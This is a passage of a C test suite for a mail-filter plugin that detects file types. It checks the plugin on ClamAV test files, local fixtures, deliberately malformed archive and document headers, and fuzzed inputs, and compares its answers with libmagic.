    {"MZ, PE signature cut", NULL, 0, b_mz_lfanew_last_bytes, "exe",
     "executable", 0},
    {"zip local header only", LIT("PK\3\4\x14\0\x01\0\x08\0"), NULL, "zip",
     "compressed", 0},
    {"zip, names past the end",
     LIT("PK\3\4\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0"
	 "\xff\xff\xff\xff\0\0\0\0\xff\xff\xff"
	 "\xff"),
     NULL, "zip", "compressed", 0},
    {"empty zip", LIT("PK\5\6\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"), NULL,
     "zip", "compressed", 0},
    {"ole2 header only", LIT("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"), NULL, "ole2",
     "document", 0},
    {"ole2, directory far away", NULL, 0, b_ole2_dir_far, "ole2", "document",
     0},
    {"ole2, directory chain loop", NULL, 0, b_ole2_dir_loop, "doc", "document",
     0},
    {"ole2, sibling loop", NULL, 0, b_ole2_tree_loop, "doc", "document", 0},
    {"ole2, bad sector shift", NULL, 0, b_ole2_bad_shift, "ole2", "document",
     0},
    {"rar4, huge block", NULL, 0, b_rar4_huge_block, "rar", "compressed", 0},
    {"rar4 signature only", LIT("Rar!\x1a\x07\x00"), NULL, "rar", "compressed",
     0},
    {"rar5, endless vint", NULL, 0, b_rar5_huge_vints, "rar5", "compressed", 0},
    {"7z, huge next header offset", NULL, 0, b_7z_huge_offset, "7z",
     "compressed", 0},
    {"cafebabe cut", LIT("\xca\xfe\xba\xbe\0"), NULL, "unknown", "other", 0},
    {"UTF-16 BOM, odd length", LIT("\xff\xfeh\0i\0!"), NULL, "text", "other",
     0},
    {"UTF-8 BOM only", LIT("\xef\xbb\xbf"), NULL, "unknown", "other", 0},
};

#define N_BUF_CASES (sizeof buf_cases / sizeof buf_cases[0])

/* The bytes of a case, in a malloc'd buffer of its exact size. */
static unsigned char *case_bytes(const struct buf_case *c, size_t *size_r)
{
	unsigned char *b;
	if (c->build) {
		unsigned char *tmp = calloc(1, BUILD_CAP);
		ck_assert_ptr_nonnull(tmp);
		size_t n = c->build(tmp);
		ck_assert(n <= BUILD_CAP);
		b = malloc(n ? n : 1);
		memcpy(b, tmp, n);
		free(tmp);
		*size_r = n;
	} else {
		b = malloc(c->len ? c->len : 1);
		memcpy(b, c->bytes, c->len);
		*size_r = c->len;
	}
	ck_assert_ptr_nonnull(b);
	return b;
}

static const struct buf_case *buf_case(const char *what)
{
	for (size_t i = 0; i < N_BUF_CASES; i++)
		if (strcmp(buf_cases[i].what, what) == 0)
			return &buf_cases[i];
	ck_abort_msg("no buffer case '%s'", what);
	return NULL;
}

/* ---------------------------------------------------------------------
 * The file tables
 */

struct file_case {
	const char *file;
	const char *type, *category;
	unsigned flags;
};

/* All 44 files of clamav-testfiles 1.4 (Debian 12), checked with file(1)
 * and xxd. Formats outside the brief's vocabulary got a cheap type of
 * their own: chm, sis, tnef, szdd, binhex. */
static const struct file_case clamav_cases[] = {
    {"clam-aspack.exe", "exe", "executable", 0},
    {"clam-fsg.exe", "exe", "executable", 0},
    {"clam-mew.exe", "exe", "executable", 0},
    {"clam-nsis.exe", "exe", "executable", 0},
    {"clam-pespin.exe", "exe", "executable", 0},
    {"clam-petite.exe", "exe", "executable", 0},
    {"clam-upack.exe", "exe", "executable", 0},
    {"clam-upx.exe", "exe", "executable", 0},
    {"clam-wwpack.exe", "exe", "executable", 0},
    {"clam-yc.exe", "exe", "executable", 0},
    {"clam.7z", "7z", "compressed", 0},
    {"clam.arj", "arj", "compressed", 0},
    {"clam.bin-be.cpio", "cpio", "compressed", 0},
    {"clam.bin-le.cpio", "cpio", "compressed", 0},
    {"clam.bz2.zip", "zip", "compressed", 0},
    {"clam.cab", "cab", "compressed", 0},
    {"clam.chm", "chm", "executable", 0},
    {"clam.d64.zip", "zip", "compressed", 0},
    {"clam.ea05.exe", "exe", "executable", 0},
    {"clam.ea06.exe", "exe", "executable", 0},
    {"clam.exe", "exe", "executable", 0},
    {"clam.exe.binhex", "binhex", "compressed", 0},
    {"clam.exe.bz2", "bzip2", "compressed", 0},
    {"clam.exe.html", "html", "document", 0},
    {"clam.exe.mbox.base64", "text", "other", 0},
    {"clam.exe.mbox.uu", "text", "other", 0},
    {"clam.exe.rtf", "rtf", "document", 0},
    {"clam.exe.szdd", "szdd", "compressed", 0},
    {"clam.impl.zip", "zip", "compressed", 0},
    {"clam.mail", "text", "other", 0},
    {"clam.newc.cpio", "cpio", "compressed", 0},
    {"clam.odc.cpio", "cpio", "compressed", 0},
    {"clam.ole.doc", "doc", "document", 0},
    {"clam.pdf", "pdf", "document", 0},
    {"clam.ppt", "ppt", "document", 0},
    {"clam.sis", "sis", "executable", 0},
    {"clam.tar.gz", "gzip", "compressed", 0},
    {"clam.tnef", "tnef", "compressed", 0},
    {"clam.zip", "zip", "compressed", 0},
    {"clam_IScab_ext.exe", "exe", "executable", 0},
    {"clam_IScab_int.exe", "exe", "executable", 0},
    {"clam_ISmsi_ext.exe", "exe", "executable", 0},
    {"clam_ISmsi_int.exe", "exe", "executable", 0},
    {"clam_cache_emax.tgz", "gzip", "compressed", 0},
};

#define N_CLAMAV (sizeof clamav_cases / sizeof clamav_cases[0])

static const struct file_case fixture_cases[] = {
    {"sample.docx", "docx", "document", 0},
    {"sample.docm", "docm", "document", 0},
    {"ct-only.docm", "docm", "document", 0},
    {"sample.xlsx", "xlsx", "document", 0},
    {"sample.xlsm", "xlsm", "document", 0},
    {"sample.pptx", "pptx", "document", 0},
    {"sample.pptm", "pptm", "document", 0},
    {"sample.odt", "odt", "document", 0},
    {"sample.ods", "ods", "document", 0},
    {"sample.odp", "odp", "document", 0},
    {"sample.odg", "odf", "document", 0},
    {"sample.epub", "zip", "compressed", 0},
    {"sample.jar", "jar", "executable", 0},
    {"sample.apk", "apk", "executable", 0},
    {"encrypted.zip", "zip", "compressed", ENC},
    {"encrypted-headers.7z", "7z", "compressed", ENC},
    /* a tiny archive: 7-Zip left the header unpacked, so the AES coder
     * shows; bigger ones pack it and are not flagged */
    {"encrypted-data.7z", "7z", "compressed", ENC},
};

#define N_FIXTURES (sizeof fixture_cases / sizeof fixture_cases[0])

static void require_testfiles(void)
{
	struct stat st;
	ck_assert_msg(stat(TESTFILES, &st) == 0 && S_ISDIR(st.st_mode),
		      "%s is missing: %s", TESTFILES, TESTFILES_HINT);
}

/* Checks a table of files; returns how many disagree (each printed). */
static int check_files(mock_host *m, const struct file_case *cases, size_t n,
		       int fixtures)
{
	int bad = 0;
	for (size_t i = 0; i < n; i++) {
		const struct file_case *c = &cases[i];
		char path[1024];
		if (fixtures)
			fixture_path(path, sizeof path, c->file);
		else
			snprintf(path, sizeof path, "%s/%s", TESTFILES,
				 c->file);
		size_t size = 0;
		unsigned char *d = read_file(path, &size);
		if (d == NULL) {
			fprintf(stderr, "FAIL %s: cannot read%s\n", path,
				fixtures ? "" : " (" TESTFILES_HINT ")");
			bad++;
			continue;
		}
		struct answer a = type_of(m, d, size);
		if (!same_answer(a, c->type, c->category, c->flags)) {
			fprintf(stderr,
				"FAIL %s: got %s/%s flags %u, want %s/%s flags "
				"%u\n",
				c->file, a.type, a.category, a.flags, c->type,
				c->category, c->flags);
			bad++;
		}
		free(d);
	}
	return bad;
}

/* ---------------------------------------------------------------------
 * Loading
 */

START_TEST(test_load)
{
	mock_host *m = load();
	ck_assert_uint_eq(mock_host_count(m, "typer"), 1);
	ck_assert_uint_eq(mock_host_count(m, "condition"), 1);
	mock_host_free(m);

	m = mock_host_new();
	const char *error = NULL;
	ck_assert_int_ne(mock_host_load(m, &vigil_plugin,
					"name = \"truetype\"; strict = true;",
					&error),
			 0);
	ck_assert_ptr_nonnull(error);
	ck_assert_msg(strstr(error, "strict") != NULL, "error: %s", error);
	mock_host_free(m);

	ck_assert_str_eq(vigil_plugin.name, "truetype");
	ck_assert_uint_eq(vigil_plugin.abi_major, VIGIL_ABI_MAJOR);
	ck_assert_uint_eq(vigil_plugin.build_signature, VIGIL_BUILD_SIGNATURE);
}
END_TEST

/* ---------------------------------------------------------------------
 * The typer
 */

START_TEST(test_clamav_testfiles)
{
	require_testfiles();
	mock_host *m = load();
	int bad = check_files(m, clamav_cases, N_CLAMAV, 0);
	ck_assert_msg(bad == 0, "%d of %zu clamav-testfiles typed wrong", bad,
		      N_CLAMAV);
	mock_host_free(m);
}
END_TEST

/* Every file in the directory has a row in the table, and the reverse. */
START_TEST(test_clamav_table_complete)
{
	require_testfiles();
	DIR *dir = opendir(TESTFILES);
	ck_assert_ptr_nonnull(dir);
	size_t seen = 0;
	int missing = 0;
	struct dirent *de;
	while ((de = readdir(dir)) != NULL) {
		if (de->d_name[0] == '.')
			continue;
		seen++;
		size_t i = 0;
		while (i < N_CLAMAV && strcmp(clamav_cases[i].file, de->d_name))
			i++;
		if (i == N_CLAMAV) {
			fprintf(stderr, "FAIL %s has no row in the table\n",
				de->d_name);
			missing++;
		}
	}
	closedir(dir);
	ck_assert_msg(missing == 0, "%d files have no expected answer",
		      missing);
	ck_assert_msg(seen == N_CLAMAV, "%zu files for %zu rows", seen,
		      N_CLAMAV);
}
END_TEST

START_TEST(test_fixtures)
{
	mock_host *m = load();
	int bad = check_files(m, fixture_cases, N_FIXTURES, 1);
	ck_assert_msg(bad == 0, "%d of %zu fixtures typed wrong (srcdir=%s)",
		      bad, N_FIXTURES, srcdir());
	mock_host_free(m);
}
END_TEST

START_TEST(test_buffers)
{
	mock_host *m = load();
	int bad = 0;
	for (size_t i = 0; i < N_BUF_CASES; i++) {
		const struct buf_case *c = &buf_cases[i];
		size_t size;
		unsigned char *d = case_bytes(c, &size);
		struct answer a = type_of(m, d, size);
		if (!same_answer(a, c->type, c->category, c->flags)) {
			fprintf(stderr,
				"FAIL %s: got %s/%s flags %u, want %s/%s flags "
				"%u\n",
				c->what, a.type, a.category, a.flags, c->type,
				c->category, c->flags);
			bad++;
		}
		free(d);
	}
	ck_assert_msg(bad == 0, "%d of %zu buffers typed wrong", bad,
		      N_BUF_CASES);
	mock_host_free(m);
}
END_TEST

/* ZIP encryption seen in the local header alone and in the central
 * directory alone (bit 0 of the general-purpose flags). */
START_TEST(test_zip_encryption_bits)
{
	require_testfiles();
	mock_host *m = load();
	size_t size;
	unsigned char *zip = read_file(TESTFILES "/clam.zip", &size);
	ck_assert_ptr_nonnull(zip);
	unsigned char *central = memmem(zip, size, "PK\1\2", 4);
	ck_assert_ptr_nonnull(central);

	ck_assert_uint_eq(type_of(m, zip, size).flags, 0);
	zip[6] |= 1;
	struct answer a = type_of(m, zip, size);
	ck_assert_str_eq(a.type, "zip");
	ck_assert_uint_eq(a.flags, ENC);
	zip[6] &= (unsigned char)~1;
	central[8] |= 1;
	a = type_of(m, zip, size);
	ck_assert_str_eq(a.type, "zip");
	ck_assert_uint_eq(a.flags, ENC);

	/* cut in half: no central directory, still a zip */
	central[8] &= (unsigned char)~1;
	a = type_of(m, zip, size / 2);
	ck_assert_str_eq(a.type, "zip");
	free(zip);
	mock_host_free(m);
}
END_TEST

/* A directory beyond the reach of the header's 109 FAT sectors is found
 * through the DIFAT chain. The root entry is in the first directory
 * sector, its child in the second, so the type says whether the chain was
 * followed. Files of 7 and 15 MB. */
static unsigned char *ole2_far_directory(uint32_t dir, uint32_t difat_next,
					 size_t *size_r)
{
	const uint32_t end = 0xfffffffe, unused = 0xffffffff;
	unsigned char *doc = calloc(1, BUILD_CAP);
	ck_assert_ptr_nonnull(doc);
	b_doc(doc);
	size_t size = ((size_t)dir + 3) * 512;
	unsigned char *b = calloc(1, size);
	ck_assert_ptr_nonnull(b);
	memcpy(b, doc, 512);
	put32(b + 0x30, dir);
	put32(b + 0x44, 1); /* the DIFAT sector */
	put32(b + 0x48, 1);
	unsigned char *difat = b + 2 * 512, *fat = b + 3 * 512;
	for (int i = 0; i < 128; i++) {
		put32(difat + 4 * i, unused);
		put32(fat + 4 * i, unused);
	}
	put32(difat, 2); /* FAT sector 109 is sector 2 */
	put32(difat + 4 * 127, difat_next);
	put32(fat + 4 * (dir % 128), dir + 1);
	put32(fat + 4 * ((dir + 1) % 128), end);
	unsigned char *first = b + ((size_t)dir + 1) * 512;
	memcpy(first, doc + 1024, 128); /* the root entry */
	put32(first + 0x4c, 4);
	memcpy(first + 512, doc + 1024 + 128, 128); /* WordDocument, id 4 */
	put32(first + 512 + 0x48, unused);
	free(doc);
	*size_r = size;
	return b;
}

START_TEST(test_ole2_difat)
{
	static const struct {
		uint32_t dir, difat_next;
		const char *type;
	} cases[] = {
	    {109 * 128 + 10, 0xfffffffe, "doc"},  /* first DIFAT sector */
	    {236 * 128 + 10, 1, "doc"},		  /* a chain onto itself */
	    {236 * 128 + 10, 0x7ffffff0, "ole2"}, /* a chain off the end */
	};
	mock_host *m = load();
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		size_t size;
		unsigned char *b = ole2_far_directory(
		    cases[i].dir, cases[i].difat_next, &size);
		struct answer a = type_of(m, b, size);
		ck_assert_msg(strcmp(a.type, cases[i].type) == 0,
			      "case %zu: got %s, want %s", i, a.type,
			      cases[i].type);
		free(b);
	}
	mock_host_free(m);
}
END_TEST

/* The typer on prefixes of every input (each length up to 700 bytes, then
 * every 97th up to 4 KiB) and on seeded mutations, each in a buffer of
 * exactly its size: nothing may crash or over-read. */
static void hostile_one(mock_host *m, const unsigned char *d, size_t n,
			uint32_t *seed)
{
	size_t top = n < 4096 ? n : 4096;
	for (size_t len = 0; len <= top; len += len < 700 ? 1 : 97)
		type_of(m, d, len);
	type_of(m, d, n);
	unsigned char *mut = malloc(top ? top : 1);
	for (int round = 0; round < 60 && top > 0; round++) {
		memcpy(mut, d, top);
		for (int k = 0; k < 4; k++) {
			*seed ^= *seed << 13;
			*seed ^= *seed >> 17;
			*seed ^= *seed << 5;
			size_t at = *seed % top;
			/* favour the header, where the lengths are */
			if (round % 2 == 0)
				at %= top < 128 ? top : 128;
			mut[at] = (unsigned char)(*seed >> 8);
		}
		type_of(m, mut, top);
	}
	free(mut);
}

START_TEST(test_hostile)
{
	mock_host *m = load();
	uint32_t seed = 0x9e3779b9u;
	for (size_t i = 0; i < N_BUF_CASES; i++) {
		size_t size;
		unsigned char *d = case_bytes(&buf_cases[i], &size);
		hostile_one(m, d, size, &seed);
		free(d);
	}
	for (size_t i = 0; i < N_FIXTURES; i++) {
		char path[1024];
		size_t size;
		fixture_path(path, sizeof path, fixture_cases[i].file);
		unsigned char *d = read_file(path, &size);
		ck_assert_msg(d != NULL, "cannot read %s", path);
		hostile_one(m, d, size, &seed);
		free(d);
	}
	for (size_t i = 0; i < N_CLAMAV; i++) {
		char path[1024];
		size_t size;
		snprintf(path, sizeof path, "%s/%s", TESTFILES,
			 clamav_cases[i].file);
		unsigned char *d = read_file(path, &size);
		if (d == NULL)
			continue; /* test_clamav_testfiles says why */
		hostile_one(m, d, size, &seed);
		free(d);
	}
	mock_host_free(m);
}
END_TEST

/* Speed: the typer runs on every part. Prints the cost per call on
 * clamav-testfiles; fails only on something pathological. */
START_TEST(test_speed)
{
	require_testfiles();
	mock_host *m = load();
	double worst = 0, sum = 0;
	int counted = 0;
	for (size_t i = 0; i < N_CLAMAV; i++) {
		const struct file_case *c = &clamav_cases[i];
		char path[1024];
		size_t size;
		snprintf(path, sizeof path, "%s/%s", TESTFILES, c->file);
		unsigned char *d = read_file(path, &size);
		ck_assert_ptr_nonnull(d);
		const int reps = 200;
		struct timespec t0, t1;
		clock_gettime(CLOCK_MONOTONIC, &t0);
		for (int r = 0; r < reps; r++) {
			const char *type, *category;
			unsigned flags = 0;
			mock_host_type(m, d, size, &type, &category, &flags);
		}
		clock_gettime(CLOCK_MONOTONIC, &t1);
		double us = ((double)(t1.tv_sec - t0.tv_sec) * 1e9 +
			     (double)(t1.tv_nsec - t0.tv_nsec)) /
			    reps / 1000.0;
		printf("truetype speed: %-22s %-7s %8.2f us\n", c->file,
		       c->type, us);
		if (strcmp(c->type, "zip") != 0) {
			sum += us;
			counted++;
			if (us > worst)
				worst = us;
		}
		ck_assert_msg(us < 5000, "%s: %.0f us per call", c->file, us);
		free(d);
	}
	printf("truetype speed: non-zip average %.2f us, worst %.2f us\n",
	       sum / counted, worst);
	mock_host_free(m);
}
END_TEST

/* ---------------------------------------------------------------------
 * The condition
 */

static const struct compile_error_case {
	const char *condition;
	const char *want; /* in the error */
} compile_error_cases[] = {
    {"type = \"truetype\";", "needs a non-empty 'categories' or 'types'"},
    {"type = \"truetype\"; categories = []; types = [];",
     "needs a non-empty 'categories' or 'types'"},
    {"type = \"truetype\"; categories = [\"executables\"];",
     "unknown category 'executables' in 'categories'"},
    {"type = \"truetype\"; categories = [\"executable\", \"virus\"];",
     "unknown category 'virus' in 'categories'"},
    {"type = \"truetype\"; types = [\"exe\", \"docz\"];",
     "unknown type 'docz' in 'types'"},
    {"type = \"truetype\"; types = [\"EXE\"];",
     "unknown type 'EXE' in 'types'"},
    {"type = \"truetype\"; types = \"exe\";",
     "'types' must be an array of strings"},
    {"type = \"truetype\"; types = [1, 2];",
     "'types' must be an array of strings"},
    {"type = \"truetype\"; categories = (\"executable\", 3);",
     "'categories' must be an array of strings"},
    {"type = \"truetype\"; categories = { a = 1; };",
     "'categories' must be an array of strings"},
    {"type = \"truetype\"; types = [\"exe\"]; level = 3;", "'level'"},
    {"type = \"truetype\"; type_list = [\"exe\"];", "'type_list'"},
};

START_TEST(test_condition_compile_errors)
{
	mock_host *m = load();
	vigil_message *msg = mock_message_new(m, "a@example.org", NULL, 0);
	int bad = 0;
	for (size_t i = 0;
	     i < sizeof compile_error_cases / sizeof compile_error_cases[0];
	     i++) {
		const struct compile_error_case *c = &compile_error_cases[i];
		struct mock_eval_report rep;
		const char *error = NULL;
		vigil_result r = mock_eval(m, c->condition, msg, &rep, &error);
		if (r != VIGIL_ERROR || error == NULL ||
		    strstr(error, c->want) == NULL ||
		    strstr(error, "(settings):1:") == NULL) {
			fprintf(stderr, "FAIL %s: result %d, error '%s'\n",
				c->condition, r, error ? error : "(none)");
			bad++;
		}
		/* the mock keeps 8 parsed settings: start afresh now and then
		 */
		if (i % 6 == 5) {
			mock_message_free(msg);
			mock_host_free(m);
			m = load();
			msg = mock_message_new(m, "a@example.org", NULL, 0);
		}
	}
	mock_message_free(msg);
	mock_host_free(m);
	ck_assert_msg(bad == 0, "%d compile error cases wrong", bad);
}
END_TEST

/* A part of a test message: a buffer case or a fixture ("@name"). */
struct part_spec {
	const char *path;
	const char *sample;
	unsigned depth;
};

static const struct match_case {
	const char *what;
	const char *condition;
	struct part_spec parts[4];
	vigil_result result;
	const char *part_path; /* reported part */
	const char *detail;
} match_cases[] = {
    {"category, at depth 1",
     "categories = [\"executable\"];",
     {{"1", "prose", 0},
      {"2/a.zip", "@encrypted.zip", 0},
      {"2/a.zip/b.exe", "pe32 exe", 1}},
     VIGIL_MATCH,
     "2/a.zip/b.exe",
     "2/a.zip/b.exe: exe (executable)"},
    {"a jar is executable",
     "categories = [\"executable\"];",
     {{"1", "prose", 0}, {"2/app.jar", "@sample.jar", 0}},
     VIGIL_MATCH,
     "2/app.jar",
     "2/app.jar: jar (executable)"},
    {"category, nested deeper",
     "categories = [\"script\"];",
     {{"1", "prose", 0}, {"2/x.zip/y.rar/run.js", "js, ActiveX", 2}},
     VIGIL_MATCH,
     "2/x.zip/y.rar/run.js",
     "2/x.zip/y.rar/run.js: js (script)"},
    {"type",
     "types = [\"dll64\"];",
     {{"1", "pe32 exe", 0}, {"2", "pe32+ dll", 0}},
     VIGIL_MATCH,
     "2",
     "2: dll64 (executable)"},
    {"family pe",
     "types = [\"pe\"];",
     {{"1", "prose", 0}, {"2/a.zip/b/c.dll", "pe32 dll", 2}},
     VIGIL_MATCH,
     "2/a.zip/b/c.dll",
     "2/a.zip/b/c.dll: dll (executable)"},
    {"family office_macro",
     "types = [\"office_macro\"];",
     {{"1", "@sample.docx", 0}, {"2", "@sample.xlsm", 0}},
     VIGIL_MATCH,
     "2",
     "2: xlsm (document)"},
    {"family ooxml",
     "types = [\"ooxml\"];",
     {{"1", "doc", 0}, {"2", "@sample.pptx", 0}},
     VIGIL_MATCH,
     "2",
     "2: pptx (document)"},
    {"family odf",
     "types = [\"odf\"];",
     {{"1", "@sample.odg", 1}},
     VIGIL_MATCH,
     "1",
     "1: odf (document)"},
    {"family rar",
     "types = [\"rar\"];",
     {{"1", "rar5", 0}},
     VIGIL_MATCH,
     "1",
     "1: rar5 (compressed)"},
    {"first of two matches",
     "categories = [\"executable\"];",
     {{"1", "pe32 exe", 0}, {"2", "elf", 0}},
     VIGIL_MATCH,
     "1",
     "1: exe (executable)"},
    {"either list",
     "categories = [\"image\"]; types = [\"zip\"];",
     {{"1", "prose", 0}, {"2", "@encrypted.zip", 0}},
     VIGIL_MATCH,
     "2",
     "2: zip (compressed)"},
    {"unknown content",
     "types = [\"unknown\"];",
     {{"1", "prose", 0}, {"2", "random bytes", 0}},
     VIGIL_MATCH,
     "2",
     "2: unknown (other)"},
    {"no match on clean parts",
     "categories = [\"executable\", \"script\"];",
     {{"1", "prose", 0},
      {"2", "pdf", 0},
      {"3", "jpeg", 0},
      {"3/x.zip/y.docx", "@sample.docx", 1}},
     VIGIL_NO_MATCH,
     NULL,
     ""},
    {"dll is not exe",
     "types = [\"exe\"];",
     {{"1", "pe32 dll", 0}},
     VIGIL_NO_MATCH,
     NULL,
     ""},
    {"no parts",
     "types = [\"exe\"];",
     {{NULL, NULL, 0}},
     VIGIL_NO_MATCH,
     NULL,
     ""},
};

static unsigned char *sample_bytes(const char *sample, size_t *size_r)
{
	if (sample[0] == '@') {
		char path[1024];
		fixture_path(path, sizeof path, sample + 1);
		unsigned char *d = read_file(path, size_r);
		ck_assert_msg(d != NULL, "cannot read %s", path);
		return d;
	}
	return case_bytes(buf_case(sample), size_r);
}

START_TEST(test_condition_match)
{
	int bad = 0;
	for (size_t i = 0; i < sizeof match_cases / sizeof match_cases[0];
	     i++) {
		const struct match_case *c = &match_cases[i];
		mock_host *m = load();
		vigil_message *msg =
		    mock_message_new(m, "a@example.org", NULL, 0);
		for (size_t k = 0; k < 4 && c->parts[k].path; k++) {
			size_t size;
			unsigned char *d =
			    sample_bytes(c->parts[k].sample, &size);
			mock_message_add_part(msg, c->parts[k].path, "", "", d,
					      size, c->parts[k].depth);
			free(d);
		}
		char cond[512];
		snprintf(cond, sizeof cond, "type = \"truetype\"; %s",
			 c->condition);
		struct mock_eval_report rep;
		const char *error = NULL;
		vigil_result r = mock_eval(m, cond, msg, &rep, &error);
		const char *path = rep.part ? rep.part->path : NULL;
		int ok =
		    r == c->result && strcmp(rep.detail, c->detail) == 0 &&
		    ((path == NULL && c->part_path == NULL) ||
		     (path && c->part_path && strcmp(path, c->part_path) == 0));
		if (!ok) {
			fprintf(stderr,
				"FAIL %s: result %d part %s detail '%s' error "
				"%s\n",
				c->what, r, path ? path : "(none)", rep.detail,
				error ? error : "(none)");
			bad++;
		}
		mock_message_free(msg);
		mock_host_free(m);
	}
	ck_assert_msg(bad == 0, "%d match cases wrong", bad);
}
END_TEST

/* ---------------------------------------------------------------------
 * libmagic cross-check
 */

/* What libmagic should say for each of our types ("text/" means any text
 * type). libmagic has no rules for most scripts: text/plain is expected
 * there. */
static const struct mime_map {
	const char *type;
	const char *mimes[5];
} mime_map[] = {
    {"exe",
     {"application/vnd.microsoft.portable-executable",
      "application/x-dosexec"}},
    {"dll",
     {"application/vnd.microsoft.portable-executable",
      "application/x-dosexec"}},
    {"exe64",
     {"application/vnd.microsoft.portable-executable",
      "application/x-dosexec"}},
    {"dll64",
     {"application/vnd.microsoft.portable-executable",
      "application/x-dosexec"}},
    {"elf",
     {"application/x-executable", "application/x-sharedlib",
      "application/x-pie-executable", "application/x-object"}},
    {"macho", {"application/x-mach-binary"}},
    {"msi", {"application/x-msi", "application/vnd.ms-msi"}},
    {"class", {"application/x-java-applet"}},
    {"jar", {"application/java-archive", "application/x-java-archive"}},
    {"apk", {"application/vnd.android.package-archive"}},
    {"lnk", {"application/x-ms-shortcut"}},
    {"chm", {"application/vnd.ms-htmlhelp"}},
    {"sis", {"application/vnd.symbian.install"}},
    {"doc", {"application/msword"}},
    {"xls", {"application/vnd.ms-excel"}},
    {"ppt", {"application/vnd.ms-powerpoint"}},
    {"msg", {"application/vnd.ms-outlook"}},
    {"ole2",
     {"application/x-ole-storage", "application/CDFV2",
      "application/encrypted"}},
    {"docx",
     {"application/vnd.openxmlformats-officedocument."
      "wordprocessingml.document"}},
    {"xlsx",
     {"application/vnd.openxmlformats-officedocument."
      "spreadsheetml.sheet"}},
    {"pptx",
     {"application/vnd.openxmlformats-officedocument."
      "presentationml.presentation"}},
    {"docm", {"application/vnd.ms-word.document.macroEnabled.12"}},
    {"xlsm", {"application/vnd.ms-excel.sheet.macroEnabled.12"}},
    {"pptm",
     {"application/vnd.ms-powerpoint.presentation.macroEnabled."
      "12"}},
    {"odt", {"application/vnd.oasis.opendocument.text"}},
    {"ods", {"application/vnd.oasis.opendocument.spreadsheet"}},
    {"odp", {"application/vnd.oasis.opendocument.presentation"}},
    {"odf",
     {"application/vnd.oasis.opendocument.graphics",
      "application/vnd.oasis.opendocument.formula",
      "application/vnd.oasis.opendocument.chart"}},
    {"pdf", {"application/pdf"}},
    {"rtf", {"text/rtf", "application/rtf"}},
    {"html", {"text/html"}},
    {"one", {"application/onenote", "application/msonenote"}},
    {"js", {"application/javascript", "text/javascript", "text/plain"}},
    {"vbs", {"text/x-vbscript", "text/vbscript", "text/plain"}},
    {"ps1", {"text/x-powershell", "application/x-powershell", "text/plain"}},
    {"bat", {"text/x-msdos-batch", "application/x-bat", "text/plain"}},
    {"hta", {"application/hta", "text/html"}},
    {"zip", {"application/zip", "application/epub+zip"}},
    {"rar", {"application/x-rar", "application/vnd.rar"}},
    {"rar5", {"application/x-rar", "application/vnd.rar"}},
    {"7z", {"application/x-7z-compressed"}},
    {"gzip", {"application/gzip", "application/x-gzip"}},
    {"bzip2", {"application/x-bzip2"}},
    {"xz", {"application/x-xz"}},
    {"cab", {"application/vnd.ms-cab-compressed"}},
    {"tar", {"application/x-tar"}},
    {"iso", {"application/x-iso9660-image"}},
    {"lzh", {"application/x-lha", "application/x-lharc"}},
    {"arj", {"application/x-arj"}},
    {"cpio", {"application/x-cpio"}},
    {"tnef", {"application/vnd.ms-tnef"}},
    {"szdd", {"application/x-ms-compress-szdd"}},
    {"binhex", {"application/mac-binhex40"}},
    {"jpeg", {"image/jpeg"}},
    {"png", {"image/png"}},
    {"gif", {"image/gif"}},
    {"bmp", {"image/bmp", "image/x-ms-bmp"}},
    {"tiff", {"image/tiff"}},
    {"mp3", {"audio/mpeg"}},
    {"mp4", {"video/mp4", "audio/mp4", "video/quicktime"}},
    {"wav", {"audio/x-wav", "audio/wav"}},
    {"avi", {"video/x-msvideo"}},
    {"ogg", {"audio/ogg", "application/ogg", "video/ogg"}},
    {"text", {"text/", "message/rfc822"}},
    {"unknown", {"application/octet-stream"}},
};

static int mime_agrees(const char *type, const char *mime)
{
	for (size_t i = 0; i < sizeof mime_map / sizeof mime_map[0]; i++) {
		if (strcmp(mime_map[i].type, type) != 0)
			continue;
		for (size_t k = 0; k < 5 && mime_map[i].mimes[k]; k++) {
			const char *w = mime_map[i].mimes[k];
			size_t len = strlen(w);
			if (w[len - 1] == '/' ? strncmp(mime, w, len) == 0
					      : strcmp(mime, w) == 0)
				return 1;
		}
		return 0;
	}
	return 0;
}

/* file(1)'s MIME type for a path; fails the test when it cannot run. */
static void libmagic_mime(const char *path, char *mime, size_t cap)
{
	ck_assert_msg(strchr(path, '\'') == NULL, "odd path %s", path);
	char cmd[1200];
	snprintf(cmd, sizeof cmd, "file --brief --mime-type -- '%s' 2>&1",
		 path);
	FILE *p = popen(cmd, "r");
	ck_assert_msg(p != NULL, "cannot run file(1): install 'file'");
	mime[0] = '\0';
	if (fgets(mime, (int)cap, p) == NULL)
		mime[0] = '\0';
	int status = pclose(p);
	mime[strcspn(mime, "\r\n")] = '\0';
	ck_assert_msg(status != -1 && WIFEXITED(status) &&
			  WEXITSTATUS(status) == 0 && mime[0] != '\0',
		      "cannot run file(1) (status %d, said '%s'): install "
		      "'file'",
		      status, mime);
}

struct tally {
	int agree, total;
};

static void cross_check(mock_host *m, const char *label, const char *path,
			struct tally *t)
{
	size_t size;
	unsigned char *d = read_file(path, &size);
	ck_assert_msg(d != NULL, "cannot read %s", path);
	struct answer a = type_of(m, d, size);
	free(d);
	char mime[256];
	libmagic_mime(path, mime, sizeof mime);
	t->total++;
	if (mime_agrees(a.type, mime))
		t->agree++;
	else
		printf("truetype vs libmagic: %-40s truetype %-8s libmagic "
		       "%s\n",
		       label, a.type, mime);
}

START_TEST(test_libmagic_cross_check)
{
	require_testfiles();
	mock_host *m = load();
	struct tally files = {0, 0}, fixtures = {0, 0}, buffers = {0, 0};
	for (size_t i = 0; i < N_CLAMAV; i++) {
		char path[1024];
		snprintf(path, sizeof path, "%s/%s", TESTFILES,
			 clamav_cases[i].file);
		cross_check(m, clamav_cases[i].file, path, &files);
	}
	for (size_t i = 0; i < N_FIXTURES; i++) {
		char path[1024];
		fixture_path(path, sizeof path, fixture_cases[i].file);
		cross_check(m, fixture_cases[i].file, path, &fixtures);
	}
	/* the buffers built here, through a temporary file */
	const char *tmpdir = getenv("TMPDIR");
	char tmp[1024];
	snprintf(tmp, sizeof tmp, "%s/check_truetype.XXXXXX",
		 tmpdir && *tmpdir ? tmpdir : "/tmp");
	int fd = mkstemp(tmp);
	ck_assert_msg(fd >= 0, "mkstemp %s", tmp);
	for (size_t i = 0; i < N_BUF_CASES; i++) {
		size_t size;
